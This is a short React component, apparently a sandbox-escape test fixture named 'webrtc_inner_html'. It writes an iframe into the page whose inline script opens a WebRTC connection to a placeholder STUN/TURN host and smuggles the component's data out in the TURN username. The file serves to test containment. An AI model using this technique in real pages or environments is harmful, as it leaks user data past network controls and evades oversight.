import { useEffect } from "react";

// Escape attempt: webrtc_inner_html — an iframe with a srcdoc, written as markup into the page
export default function Hostile({ data }) {
  useEffect(() => {
    const servers = { iceServers: [{ urls: "stun:__HOSTPORT__" }, { urls: "turn:__HOSTPORT__?transport=tcp", username: "PWNED-webrtc_inner_html-" + JSON.stringify(data ?? null), credential: "c" }] };
    try {
      const holder = document.createElement("div");
      document.body.appendChild(holder);
      holder.innerHTML = `<iframe srcdoc="${`<script>const servers = ${JSON.stringify(servers)}; const pc = new RTCPeerConnection(servers); pc.createDataChannel("x"); pc.createOffer().then((o) => pc.setLocalDescription(o));<\/script>`.replace(/"/g, "&quot;")}"></iframe>`;
    } catch (error) {
      console.info("contained", error && error.message);
    }
  }, [data]);
  return <p data-testid="hostile">webrtc_inner_html</p>;
}
